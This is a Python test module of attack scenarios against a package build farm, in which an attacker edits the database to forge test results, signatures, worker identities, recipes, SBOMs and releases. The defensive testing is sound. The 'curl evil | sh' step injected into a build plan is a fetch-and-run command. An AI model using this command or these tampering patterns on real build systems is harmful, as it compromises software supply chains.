"""Attacks through the database that take more than a statement or two: with stores, and with the attacker's worker."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING, Any

from farm.core.names.canonical_json import canonical_json
from farm.core.names.digest import Digest
from farm.core.package.descriptor import Descriptor
from farm.core.package.facts import PackageFacts, Script
from farm.core.plan.job import TestOrder, TestOutcome
from farm.core.recipe.declared_sources import digest_of_files
from farm.server.channels import releases
from farm.server.curation import curation, holds
from farm.server.identities import access, identities
from farm.server.identities.access import Actor
from farm.server.jobs.finishing import finish_build, finish_test
from farm.server.jobs.leases import Holder, claim
from farm.server.jobs.provenance_checks import check_with_workers_key
from farm.server.submissions.submission import submit
from farm.server.tables.states import Role
from farm.trust.attestation.dsse import sign_statement
from farm.trust.attestation.tester_results import result_statement
from farm.trust.index.imports import Import, ImportedPackage
from tests.attack.editing import execute
from tests.attack.liar import MALLORY, Liar
from tests.attack.scenario import recipe_with_test
from tests.farms.people import signed
from tests.refusing import refuses
from tests.server.signed_results import run_by

if TYPE_CHECKING:
    from collections.abc import Mapping

    from tests.attack.farm import AttackedFarm

    Facts = Mapping[str, object]

_ACTOR = Actor("token:mallory")
_DAY = timedelta(days=1)
_FAILED = "kind = 'test' AND name = 'broken' AND state = 'failed'"
_LAST_FAILED = f"(SELECT MAX(id) FROM job WHERE {_FAILED})"
_BUILD_AGAIN = (
    "DELETE FROM package WHERE name = 'next';\n"
    "UPDATE recipe SET built_id = NULL, built_plan = NULL, newest_plan = NULL WHERE name = 'next';\n"
    "UPDATE job SET state = 'ready', finished_at = NULL WHERE id = "
    "(SELECT MIN(id) FROM job WHERE kind = 'build' AND name = 'next')"
)


# Workers: mallory is enrolled, and on no signed list.


def builds_otherwise(farm: AttackedFarm, facts: Facts) -> None:
    """Let a stranger rebuild a package, with other files."""
    execute(farm, _BUILD_AGAIN, facts)
    farm.enrolled()
    lease = claim(farm.application, farm.hands.workers["mallory"])
    assert lease is not None
    assert lease.job.name == "next"
    outcome = farm.hands.outcome(lease, content="evil")
    finish_build(farm.application, farm.hands.holder(lease), outcome, check_provenance=check_with_workers_key)


def answers_all_tests(farm: AttackedFarm, facts: Facts) -> None:
    """Let every worker answer tests; a stranger is quicker than the listed tester."""
    execute(
        farm,
        f"DELETE FROM job_exclusion;\nUPDATE job SET state = 'ready', finished_at = NULL WHERE id = {_LAST_FAILED}",
        facts,
    )
    _passes(farm, "mallory")


def takes_a_key(farm: AttackedFarm, facts: Facts) -> None:
    """Replace the tester's key by a stranger's, and answer in the tester's name."""
    exchange = (
        "UPDATE worker SET public_key = 'aside' WHERE name = 'tester';\n"
        "UPDATE worker SET public_key = 'free' WHERE name = 'mallory';\n"
        "UPDATE worker SET public_key = :mallory_key WHERE name = 'tester';\n"
        f"UPDATE job SET state = 'ready', finished_at = NULL WHERE id = {_LAST_FAILED}"
    )
    execute(farm, exchange, _with_key(facts))
    farm.hands.signers["tester"] = MALLORY
    _passes(farm, "tester")


def takes_a_name(farm: AttackedFarm, facts: Facts) -> None:
    """Swap the names of a stranger and the listed builder; the stranger builds."""
    execute(
        farm,
        "UPDATE worker SET name = 'aside' WHERE name = 'builder';\nUPDATE worker SET name = 'builder' WHERE name = 'mallory';\n"
        f"UPDATE worker SET name = 'mallory' WHERE name = 'aside';\n{_BUILD_AGAIN}",
        facts,
    )
    farm.enrolled()
    farm.hands.signers["builder"] = MALLORY
    lease = claim(farm.application, farm.hands.workers["builder"])
    assert lease is not None
    outcome = farm.hands.outcome(lease, content="evil")
    finish_build(farm.application, farm.hands.holder(lease), outcome, check_provenance=check_with_workers_key)


def takes_a_lease(farm: AttackedFarm, facts: Facts) -> None:
    """Invent a lease of the failed test, and report that it passed."""
    execute(
        farm,
        f"UPDATE attempt SET state = 'leased', worker = 'mallory', token_digest = :token, finished_at = NULL, "
        f"expires_at = '2999-01-01 00:00:00.000000' WHERE job_id = {_LAST_FAILED};\n"
        f"UPDATE job SET state = 'leased', finished_at = NULL WHERE id = {_LAST_FAILED}",
        {**facts, "token": identities.token_digest("token")},
    )
    liar, farm_hands = Liar(farm), farm.enrolled()
    (row,) = liar.rows(
        "SELECT attempt.id, job.subject FROM attempt JOIN job ON job.id = job_id WHERE attempt.state = 'leased'"
    )
    order = _order(liar, row["subject"])
    holder = Holder(farm_hands.workers["mallory"], row["id"], "token")
    finish_test(farm.application, holder, _passed(farm, order))


def passes_for_a_tester(farm: AttackedFarm, facts: Facts) -> None:
    """Sign that the failed test passed, and claim that the listed tester signed."""
    _forge(farm, facts, tester="(SELECT tester FROM attempt WHERE tester != '' LIMIT 1)")


def forges_results(farm: AttackedFarm, facts: Facts) -> None:
    """Sign that the failed test passed, in the name of the key that signed the failure."""
    _forge(farm, facts, tester="tester")


def _forge(farm: AttackedFarm, facts: Facts, *, tester: str) -> None:
    liar = Liar(farm)
    (row,) = liar.rows(f"SELECT subject FROM job WHERE id = {_LAST_FAILED}")
    outcome = _passed(farm, _order(liar, row["subject"]))
    execute(
        farm,
        f"UPDATE attempt SET state = 'succeeded', attestation = :forged, tester = {tester} WHERE job_id IN (SELECT id FROM job WHERE {_FAILED});\n"
        f"UPDATE job SET state = 'succeeded', error_code = '' WHERE {_FAILED}",
        {**facts, "forged": outcome.attestation},
    )


def _order(liar: Liar, digest: str) -> TestOrder:
    (row,) = liar.rows("SELECT body FROM test WHERE digest = ?", digest)
    return TestOrder.from_dict(json.loads(row["body"]))


def _passed(farm: AttackedFarm, order: TestOrder) -> TestOutcome:
    log = farm.application.blobs.put_bytes(b"log")
    outcome = TestOutcome(True, 0, "", log)
    envelope = sign_statement(result_statement(order, outcome, run_by(MALLORY)), MALLORY)
    return replace(outcome, attestation=farm.application.blobs.put_bytes(envelope))


def _passes(farm: AttackedFarm, name: str) -> None:
    hands = farm.enrolled()
    hands.is_heard_of(name)
    lease = claim(farm.application, hands.workers[name])
    assert lease is not None
    assert lease.job.name == "broken"
    hands.report_test(lease, passed=True)


def _with_key(facts: Facts) -> dict[str, object]:
    return {**facts, "mallory_key": MALLORY.public_key.keyval["public"]}


# Plans and tests that honest workers carry out.


def leases_a_malicious_plan(farm: AttackedFarm, facts: Facts) -> None:
    """Let an honest worker carry out other steps under the recipe that an owner has signed."""
    honest = Liar(farm).plan("next")
    evil = replace(honest, steps=(*honest.steps, replace(honest.steps[-1], script="curl evil | sh")))
    execute(
        farm,
        "INSERT INTO plan VALUES (:evil, 'dist.example.org/next', :body, 1);\n"
        "UPDATE job SET subject = :evil WHERE kind = 'build' AND name = 'next' AND NOT rebuild;\n" + _BUILD_AGAIN,
        {**facts, "evil": evil.digest, "body": canonical_json(evil.to_dict()).decode()},
    )


def leases_another_test(farm: AttackedFarm, facts: Facts) -> None:
    """Let an honest tester run a command other than the recipe's, and pass its result off as the recipe's."""
    liar = Liar(farm)
    (row,) = liar.rows(f"SELECT subject FROM job WHERE id = {_LAST_FAILED}")
    honest = _order(liar, row["subject"])
    softer = replace(honest, test=replace(honest.test, command=("/usr/bin/true",)))
    execute(
        farm,
        "INSERT OR IGNORE INTO test VALUES (:softer, :broken2_digest, 'works', :body);\n"
        f"UPDATE job SET subject = :softer, state = 'ready', finished_at = NULL WHERE id = {_LAST_FAILED}",
        {**facts, "softer": softer.digest, "body": canonical_json(softer.to_dict()).decode()},
    )
    farm.enrolled().works()
    execute(
        farm,
        "UPDATE job SET subject = :subject WHERE subject = :softer",
        {"subject": row["subject"], "softer": softer.digest},
    )


# People.


def acts_as_a_curator(farm: AttackedFarm, facts: Facts) -> None:
    """Hold a curator's token, and release packages that curators hold."""
    with farm.application.writing() as unit:
        access.issue_token(unit, name="mallory", role=Role.CURATOR, lasts=_DAY)
        with refuses("unsigned-order"):
            curation.lift(unit, _ACTOR, "edge", "kept")
        holds.lift_hold(unit.session, "edge", "kept", lifted_by=_ACTOR.name, now=unit.now)
        with refuses("unsigned-order"):
            curation.thaw(unit, _ACTOR, "still")
        releases.freeze(unit.session, "still", None)


def owns_all(farm: AttackedFarm, facts: Facts) -> None:
    """Submit while no recipe has an owner."""
    execute(farm, "UPDATE ownership SET owners = NULL", facts)
    submit(farm.application, {"stranger": recipe_with_test("stranger")}, submitted_by="token:mallory", trace="trace")


def becomes_an_owner(farm: AttackedFarm, facts: Facts) -> None:
    """Submit as one of the curators."""
    people = {"curators": {"alice": MALLORY.public_key.keyval["public"]}}
    execute(farm, "UPDATE ownership SET curators = :people", {"people": json.dumps(people)})
    recipe = recipe_with_test("stranger")
    submit(
        farm.application,
        {"stranger": recipe},
        submitted_by="token:mallory",
        trace="trace",
        envelope=_signed_as_alice(recipe),
    )


def forges_an_owner(farm: AttackedFarm, facts: Facts) -> None:
    """Submit while no recipe has an owner; claim later that an owner signed: by forgery, by another's signature."""
    owns_all(farm, facts)
    recipe = recipe_with_test("stranger")
    forged = farm.application.blobs.put_bytes(_signed_as_alice(recipe))
    digest = digest_of_files(recipe, file="recipe.yaml")
    execute(
        farm,
        "INSERT INTO recipe_signature VALUES (:recipe, :forged, 'alice', 1, '2026-11-24 12:00:00.000000');\n"
        "INSERT INTO recipe_signature SELECT :recipe, envelope, 'alice', 1, signed_at FROM recipe_signature WHERE person = 'alice' LIMIT 1",
        {"recipe": digest, "forged": forged},
    )


def takes_a_waiting_submission(farm: AttackedFarm, facts: Facts) -> None:
    """Take over a submission that waits for its owner."""
    owns_all(farm, facts)
    execute(farm, "UPDATE submission SET state = 'taken'", facts)


def exchanges_a_recipe(farm: AttackedFarm, facts: Facts) -> None:
    """Replace the files of the recipe that an owner has signed, so that it is built from the new ones."""
    evil = recipe_with_test("next", more="environment: {EVIL: '1'}\n")
    kept = farm.application.recipes.keep(evil)
    execute(
        farm,
        "UPDATE recipe_revision SET files = :kept WHERE name = 'next';\n"
        "UPDATE submitted_recipe SET files = :kept WHERE name = 'next'",
        {"kept": kept},
    )
    leases_a_malicious_plan(farm, facts)


def softens_a_test(farm: AttackedFarm, facts: Facts) -> None:
    """Replace the recipe whose test fails by one whose test passes, under the same digest."""
    kept = farm.application.recipes.keep(recipe_with_test("broken", "2.0"))
    execute(farm, "UPDATE recipe_revision SET files = :kept WHERE name = 'broken' AND version = '2.0'", {"kept": kept})


def _signed_as_alice(recipe: dict[str, bytes]) -> bytes:
    return signed("alice", recipe, key=MALLORY)


# Packages.


def softens_facts(farm: AttackedFarm, facts: Facts) -> None:
    """Write facts that no archive has."""
    softer = PackageFacts(scripts=(Script("share/needy/x", ("/bin/sh",)),)).to_json()
    execute(
        farm,
        "UPDATE package SET facts = :softer, facts_size = :size WHERE name IN ('needy', 'next')",
        {"softer": farm.application.blobs.put_bytes(softer), "size": len(softer)},
    )


def vouches_itself(farm: AttackedFarm, facts: Facts) -> None:
    """Replace an honest package by one of the attacker's, with the attacker's provenance."""
    liar = Liar(farm)
    evil = liar.built("next", MALLORY)
    for blob in evil.blobs:
        farm.application.blobs.put_bytes(liar.read(blob))
    descriptor = Descriptor.from_json(liar.read(evil.descriptor))
    execute(
        farm,
        "UPDATE package SET digest = :digest, descriptor_size = :size, tree = :tree, archive = :archive, "
        "archive_size = :archive_size, manifest_size = :manifest_size, facts = :facts, facts_size = :facts_size, "
        "provenance = :provenance, provenance_size = :provenance_size WHERE name = 'next'",
        {
            "digest": descriptor.digest,
            "size": evil.descriptor.size,
            "tree": descriptor.tree,
            **{key: getattr(evil, key).digest for key in ("archive", "facts", "provenance")},
            **{f"{key}_size": getattr(evil, key).size for key in ("archive", "manifest", "facts", "provenance")},
        },
    )


def lies_about_materials(farm: AttackedFarm, facts: Facts) -> None:
    """Leave the dependencies and the toolchain out of a bill of materials."""
    form = json.loads(farm.application.blobs.read(Digest(str(facts["next1_sbom"]))))
    form["packages"] = form["packages"][:1]
    lie = canonical_json(form)
    execute(
        farm,
        "UPDATE package SET sbom = :lie, sbom_size = :size WHERE name = 'next'",
        {"lie": farm.application.blobs.put_bytes(lie), "size": len(lie)},
    )


def names_another_recipe(farm: AttackedFarm, facts: Facts) -> None:
    """Claim that an honest package was built from a recipe that nobody has signed."""
    recipe = recipe_with_test("next", more="# harmless\n")
    digest, kept = digest_of_files(recipe, file="recipe.yaml"), farm.application.recipes.keep(recipe)
    execute(
        farm,
        "UPDATE recipe_revision SET digest = :digest, files = :kept WHERE name = 'next';\n"
        "UPDATE package SET recipe = :digest WHERE name = 'next'",
        {"digest": digest, "kept": kept},
    )


# Channels.


def records_a_release(farm: AttackedFarm, facts: Facts, **lies: Any) -> None:
    """Record a release that was never decided as one that only waits for its signature."""
    liar = Liar(farm)
    release = liar.compose("edge", liar.entry("viral"), **lies)
    execute(
        farm,
        "UPDATE candidate SET state = 'open', decided_at = NULL WHERE id = (SELECT MAX(id) FROM candidate WHERE channel = 'edge');\n"
        "INSERT INTO release (channel, number, candidate_id, set_digest, digest, previous, packages, released_at, trace) "
        "SELECT 'edge', :number, MAX(id), :set, :digest, :previous, :packages, '2026-11-24 12:00:00.000000', '' "
        "FROM candidate WHERE channel = 'edge'",
        {
            "number": release.number,
            "set": release.package_set,
            "digest": release.digest,
            "previous": release.previous,
            "packages": release.packages,
        },
    )


def imports_of_a_stranger(farm: AttackedFarm, facts: Facts) -> None:
    """Import a package of a stranger's distribution, which no recipe names."""
    records_a_release(farm, facts, imports=(stranger_of(Liar(farm)),))


def stranger_of(liar: Liar) -> Import:
    """A release of a stranger's distribution with one package in it, whose blobs are public."""
    own = Descriptor.from_json(liar.read(liar.entry("lib").descriptor))
    evil = replace(own, name=replace(own.name, distribution="evil.example.org", short="evil"))
    kept = liar.keep(evil.to_json())
    liar.farm.application.blobs.put_bytes(evil.to_json())
    packages = (ImportedPackage("evil", kept.digest),)
    return Import(
        distribution="evil.example.org",
        channel="edge",
        number=1,
        release=Digest.of(b"release"),
        root=Digest.of(b"root"),
        address="https://evil.example.org/",
        packages=packages,
    )
